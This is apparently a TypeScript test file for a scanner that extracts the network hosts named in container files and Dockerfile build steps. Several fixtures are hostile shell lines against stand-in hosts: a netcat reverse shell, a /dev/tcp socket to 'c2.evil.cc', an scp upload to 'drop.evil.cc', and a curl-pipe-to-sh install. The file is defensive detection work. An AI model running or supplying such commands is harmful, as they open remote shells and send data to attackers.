import * as fc from 'fast-check';

import { hostsInFile, hostsInStep, mayNameHosts } from './named-hosts.js';

describe('hostsInFile', () => {
  it.each([
    ['usr/local/bin/start', '#!/bin/sh\n', true],
    ['app/server.js', 'x', true],
    ['etc/resolv.conf', 'x', true],
    ['etc/cron.d/update', 'x', true],
    ['root/.bashrc', 'x', true],
    ['app/node_modules/left-pad/index.js', 'x', true],
    ['app/node_modules/left-pad/package.json', '{', false],
    ['app/node_modules/@scope/left-pad/package.json', '{', false],
    ['app/node_modules/left-pad/index.d.ts', 'x', false],
    ['usr/share/doc/curl/README.sh', '#!/bin/sh\n', false],
    ['var/lib/dpkg/info/x.list', 'x', false],
    ['app/readme.txt', 'x', false],
    ['usr/bin/program', '\x7fELF\0', false],
    ['app/empty.js', '', false],
  ])('searches %s for hosts: %j', (path, start, isAsked) => {
    expect(mayNameHosts(path, Buffer.from(start))).toBe(isAsked);
  });

  it.each<[string, string, string[]]>([
    ['a URL', 'fetch("https://API.Shop-One.io:8443/x?y")', ['api.shop-one.io']],
    ['a URL with a password, which is not kept', 'u = "ftp://me:secret@files.shop.io/x"', ['files.shop.io']],
    ['other schemes', 'pool = stratum+tcp://pool.mine.cc:3333', ['pool.mine.cc']],
    ['addresses', 'a http://203.0.113.9/x b http://[2001:db8::7]:80/', ['2001:db8::7', '203.0.113.9']],
    ['several, once each and sorted', 'https://b.io https://a.io https://b.io/', ['a.io', 'b.io']],
    ['no comment', '  // https://b.io\n * https://c.io\nx = "https://d.io"', ['d.io']],
    [
      'code that looks like a comment',
      '/**/ get("https://a.io")\n;get("https://b.io")\n#x = "https://c.io"',
      ['a.io', 'b.io', 'c.io'],
    ],
    ['no machine of its own', 'http://localhost:80 http://127.0.0.1 http://[::1]/ http://0.0.0.0 http://db:5432', []],
    ['no example', 'https://example.com https://api.example.org https://x.test', []],
    ['no vocabulary', 'xmlns="http://www.w3.org/2000/svg"', []],
    ['no template', 'https://${HOST}/ https://%s.io https://a.{region}.io', []],
    ['no number that is no address', 'http://1.2.3 http://300.1.1.1', []],
    ['the end of a sentence', 'go to https://a.io.', ['a.io']],
  ])('finds in code %s', (_, content, hosts) => {
    expect(hostsInFile({ path: 'app/x.js', content: Buffer.from(content) })).toEqual(hosts);
  });

  it.each<[string, string, string[]]>([
    ['a download without a scheme', 'curl -sL get.shop.io/install.sh | sh', ['get.shop.io']],
    ['a bare host', 'ping -c 1 beacon.evil.cc', ['beacon.evil.cc']],
    ['a port', 'nc 203.0.113.9 4444 -e /bin/sh', ['203.0.113.9']],
    ['a copy', 'scp -q data user@drop.evil.cc:/in', ['drop.evil.cc']],
    ["the shell's sockets", 'exec 3<>/dev/tcp/c2.evil.cc/443', ['c2.evil.cc']],
    ['a slash at the end', 'curl get.shop.io/', ['get.shop.io']],
    ['no file', 'curl -o app.tar.gz "$URL" && tar xf app.tar.gz && sh install.sh', []],
    ['nothing of programs that connect to nothing', 'echo a.io b.io', []],
  ])('finds in a script %s', (_, script, hosts) => {
    expect(hostsInFile({ path: 'app/x.sh', content: Buffer.from(script) })).toEqual(hosts);
    expect(hostsInStep(`RUN |1 V=2 /bin/sh -c ${script} # buildkit`)).toEqual(hosts);
  });

  it('finds the hosts of an ADD step', () => {
    expect(hostsInStep('/bin/sh -c #(nop) ADD https://dl.shop.io/x.tgz /opt')).toEqual(['dl.shop.io']);
  });

  it('skips large files and limits a small one to a hundred hosts', () => {
    const line = (index: number) => `https://h${index}.io\n`;
    const many = Array.from({ length: 5_000 }, (_, index) => line(index)).join('');
    expect(hostsInFile({ path: 'x.js', content: Buffer.from(many) })).toHaveLength(100);
    expect(hostsInFile({ path: 'x.js', content: Buffer.alloc(300_000, 'https://a.io ') })).toEqual([]);
  });

  it('returns only hosts for any text', () => {
    const pieces = fc.constantFrom(
      'https://',
      '@',
      '.',
      'a',
      'io',
      '[',
      ']',
      ':',
      '-',
      ' ',
      '\n',
      '/dev/tcp/',
      'curl ',
      '::1',
    );
    fc.assert(
      fc.property(fc.array(fc.oneof(pieces, fc.string()), { maxLength: 60 }), (parts) => {
        const text = parts.join('');
        for (const host of [...hostsInStep(text), ...hostsInFile({ path: 'x.sh', content: Buffer.from(text) })])
          expect(host).toMatch(/^[a-z0-9][a-z0-9.-]*\.[a-z0-9.-]+$|^[0-9a-f:.]+$/);
      }),
    );
  });
});
